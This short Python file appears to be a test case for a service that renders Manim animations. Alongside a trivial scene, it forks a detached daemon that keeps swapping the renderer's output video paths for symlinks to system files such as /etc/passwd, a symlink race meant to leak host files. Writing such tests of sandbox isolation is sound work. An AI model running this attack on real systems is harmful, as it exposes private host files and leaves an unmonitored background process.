# about: replaces its video with a link to a file of the system and back, from a daemon, as fast as possible.
# expect: rendered|bad_output|no_output|script_exception

import glob
import os

from manim import *

target = next((path for path in ("/usr/lib/os-release", "/etc/passwd", "/usr/bin/env") if os.path.exists(path)), "/")
if os.fork() == 0:
    os.setsid()
    while True:
        for video in glob.glob(os.path.abspath("../out-*/video")):
            for name in (video, os.path.dirname(video)):
                try:
                    os.symlink(target, name + ".link")
                    os.rename(name, name + ".kept")
                    os.rename(name + ".link", name)
                    os.rename(name + ".kept", name)
                except OSError:
                    pass


class Video(Scene):
    def construct(self):
        self.play(Create(Circle()), run_time=0.2)
